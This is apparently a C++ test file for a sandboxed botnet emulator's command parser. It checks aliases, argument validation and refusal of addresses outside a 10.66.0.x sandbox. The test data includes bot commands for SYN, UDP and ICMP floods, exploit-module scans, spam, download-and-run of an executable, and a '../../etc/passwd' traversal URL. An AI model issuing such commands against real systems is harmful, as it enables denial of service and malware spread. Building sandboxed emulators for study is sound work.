// Bot command parsing: prefixes, aliases, argument checks, and refusals of anything outside the
// sandbox.

#include <doctest/doctest.h>

#include "command.h"

namespace botscope::botemu::test_command {

namespace {

using Status = ParsedCommand::Status;

ParsedCommand ok(std::string_view text) {
    ParsedCommand c = parse_command(text);
    INFO(text, " -> ", c.error);
    REQUIRE(c.status == Status::kOk);
    return c;
}

}  // namespace

TEST_CASE("command: both prefixes and every alias name their verb") {
    struct Case {
        const char* text;
        Verb verb;
    };
    const Case cases[] = {
        {".login bs-letmein", Verb::kLogin},
        {"!login bs-letmein", Verb::kLogin},
        {".ddos.syn 10.66.0.200 80 3", Verb::kSynFlood},
        {"!syn 10.66.0.200 80 3", Verb::kSynFlood},
        {".SYNFLOOD 10.66.0.200 80 3", Verb::kSynFlood},
        {".ddos.udp 10.66.0.200 0 3", Verb::kUdpFlood},
        {".udp 10.66.0.200 53 3", Verb::kUdpFlood},
        {"!udpflood 10.66.0.200 53 3", Verb::kUdpFlood},
        {".ddos.ping 10.66.0.200 3", Verb::kPingFlood},
        {".icmpflood 10.66.0.200 3", Verb::kPingFlood},
        {".ddos.icmp 10.66.0.200 3", Verb::kPingFlood},
        {".advscan lsass_445 50 3 0 10.66.0.x -s", Verb::kScan},
        {"!scan dcom135 10 0 0", Verb::kScan},
        {".asc netbios 10 0 0 -b", Verb::kScan},
        {".spam.start 5", Verb::kSpam},
        {".spam", Verb::kSpam},
        {"!email 3", Verb::kSpam},
        {".download http://10.66.0.1/update.exe c:\\update.exe 1", Verb::kDownload},
        {".update tftp://10.66.0.1/bot.exe", Verb::kUpdate},
        {".quit", Verb::kQuit},
        {"!die", Verb::kQuit},
    };
    for (const auto& c : cases) {
        ParsedCommand p = ok(c.text);
        CHECK_MESSAGE(p.verb == c.verb, std::string(c.text));
    }
    CHECK(ok("  .login   bs-letmein  ").name == "login");
    CHECK(ok(".login\tbs-letmein").verb == Verb::kLogin);
}

TEST_CASE("command: texts that are not commands, and unknown verbs") {
    for (const char* t : {"", ".", "!", "login bs-letmein", "hello there", "?login x", ". login x"})
        CHECK_MESSAGE(parse_command(t).status != Status::kOk, std::string(t));
    CHECK(parse_command("hello").status == Status::kNotCommand);
    CHECK(parse_command(".ping 10.66.0.200 3").status == Status::kUnknown);  // not an alias
    CHECK(parse_command(".format c:").status == Status::kUnknown);
    CHECK(parse_command("." + std::string(kMaxCommandText, 'a')).status == Status::kNotCommand);
}

TEST_CASE("command: flood arguments") {
    auto syn = std::get<FloodArgs>(ok(".ddos.syn 10.66.0.200 80 5").args);
    CHECK(syn.target.address == 0x0A4200C8u);
    CHECK(syn.port == 80);
    CHECK(syn.seconds == 5);
    auto udp = std::get<FloodArgs>(ok(".ddos.udp 10.66.0.200 0 3").args);
    CHECK(udp.port == 0);
    auto ping = std::get<FloodArgs>(ok(".ddos.ping 10.66.0.200 3").args);
    CHECK(ping.port == 0);
    CHECK(ping.seconds == 3);
    auto named = std::get<FloodArgs>(ok(".syn victim.botscope.test 80 3").args);
    CHECK(named.target.text == "victim.botscope.test");
    CHECK_FALSE(named.target.address);

    for (const char* bad :
         {".ddos.syn 10.66.0.200 80", ".ddos.syn 10.66.0.200 0 3", ".ddos.syn 10.66.0.200 65536 3",
          ".ddos.syn 10.66.0.200 80 0", ".ddos.syn 10.66.0.200 80 x",
          ".ddos.syn 10.66.0.200 80 3 extra", ".ddos.ping 10.66.0.200",
          ".ddos.ping 10.66.0.200 80 3", ".ddos.udp 10.66.0.200 -1 3", ".syn bad_host! 80 3",
          ".syn 10.66.0.200 80 99999999999999999999"}) {
        ParsedCommand p = parse_command(bad);
        CHECK_MESSAGE(p.status == Status::kBadArgs, std::string(bad));
        CHECK_MESSAGE(p.error.starts_with("usage: "), std::string(bad));
    }
}

TEST_CASE("command: anything naming an address outside the sandbox is refused") {
    struct Case {
        const char* text;
        const char* error;
    };
    const Case cases[] = {
        {".ddos.syn 192.0.2.1 80 3", "192.0.2.1 is outside the sandbox"},
        {".ddos.udp 8.8.8.8 53 3", "8.8.8.8 is outside the sandbox"},
        {".ddos.ping 10.66.1.5 3", "10.66.1.5 is outside the sandbox"},
        {".ddos.syn 0x0a420101 80 3", "0x0a420101 is outside the sandbox"},
        {".advscan lsass_445 50 3 0 10.66.x.x", "10.66.x.x is outside the sandbox"},
        {".advscan lsass_445 50 3 0 10.0.0.0/8", "10.0.0.0/8 is outside the sandbox"},
        {".advscan lsass_445 50 3 0 -a", "-a (the bot's /8) is outside the sandbox"},
        {".download http://198.51.100.7/x.exe x.exe", "198.51.100.7 is outside the sandbox"},
        {".update tftp://203.0.113.5/bot.exe", "203.0.113.5 is outside the sandbox"},
        {".syn 10.66.0.255 80 3", "10.66.0.255 is not a host address of the sandbox"},
    };
    for (const auto& c : cases) {
        ParsedCommand p = parse_command(c.text);
        CHECK_MESSAGE(p.status == Status::kRefused, std::string(c.text));
        CHECK(p.error == c.error);
    }
    // The tag the reply goes out under.
    CHECK(verb_tag(parse_command(".ddos.syn 192.0.2.1 80 3").verb) == "[DDoS]");
}

TEST_CASE("command: scan arguments, module ports, ranges and flags") {
    auto s = std::get<ScanArgs>(ok(".advscan lsass_445 50 3 0 10.66.0.x -r -s").args);
    CHECK(s.port == 445);
    CHECK(s.threads == 50);
    CHECK(s.delay == 3);
    CHECK(s.minutes == 0);
    REQUIRE(s.range);
    CHECK(s.range->to_string() == "10.66.0.0/24");
    CHECK(s.random_order);
    CHECK(s.silent);
    CHECK_FALSE(std::get<ScanArgs>(ok(".advscan lsass_445 50 3 0 10.66.0.x -b").args).range);
    CHECK_FALSE(std::get<ScanArgs>(ok(".advscan dcom135 10 0 0").args).range);
    CHECK(std::get<ScanArgs>(ok(".scan dcom135 10 0 0").args).port == 135);
    CHECK(std::get<ScanArgs>(ok(".scan x 1 0 0").args).port == 445);
    auto half = std::get<ScanArgs>(ok(".scan x 1 0 0 10.66.0.128/25").args);
    REQUIRE(half.range);
    CHECK(half.range->prefix == 25);
    auto one = std::get<ScanArgs>(ok(".scan x 1 0 0 10.66.0.7").args);
    REQUIRE(one.range);
    CHECK(one.range->prefix == 32);

    CHECK(module_port("lsass_445") == 445);
    CHECK(module_port("dcom135") == 135);
    CHECK(module_port("netbios") == kDefaultScanPort);
    CHECK(module_port("x0") == std::nullopt);
    CHECK(module_port("x65536") == std::nullopt);

    for (const char* bad :
         {".advscan lsass_445 50 3", ".advscan lsass_445 0 3 0", ".advscan lsass_445 50 3 0 -x",
          ".advscan x99999 50 3 0", ".advscan lsass_445 50 3 0 10.66.0.x 10.66.0.x",
          ".advscan lsass_445 50 3 0 banana"})
        CHECK_MESSAGE(parse_command(bad).status == Status::kBadArgs, std::string(bad));
}

TEST_CASE("command: spam and download arguments") {
    CHECK(std::get<SpamArgs>(ok(".spam.start").args).count == kMaxSpamMessages);
    CHECK(std::get<SpamArgs>(ok(".spam.start 3").args).count == 3);
    CHECK(parse_command(".spam.start 0").status == Status::kBadArgs);
    CHECK(parse_command(".spam.start 3 4").status == Status::kBadArgs);

    auto d = std::get<DownloadArgs>(
        ok(".download http://10.66.0.1/files/update.exe c:\\windows\\update.exe 1").args);
    CHECK(d.url.host == "10.66.0.1");
    CHECK(d.url.path == "/files/update.exe");
    CHECK(d.file_name == "update.exe");
    CHECK(d.run);
    auto u = std::get<DownloadArgs>(ok(".update tftp://sink.botscope.test/bot.exe 7").args);
    CHECK(u.url.scheme == Scheme::kTftp);
    CHECK(u.file_name == "bot.exe");
    CHECK_FALSE(u.run);
    CHECK(
        std::get<DownloadArgs>(ok(".download http://10.66.0.1/../../etc/passwd").args).file_name ==
        "passwd");
    CHECK(parse_command(".download ftp://10.66.0.1/x").status == Status::kBadArgs);
    CHECK(parse_command(".download").status == Status::kBadArgs);
}

}  // namespace botscope::botemu::test_command
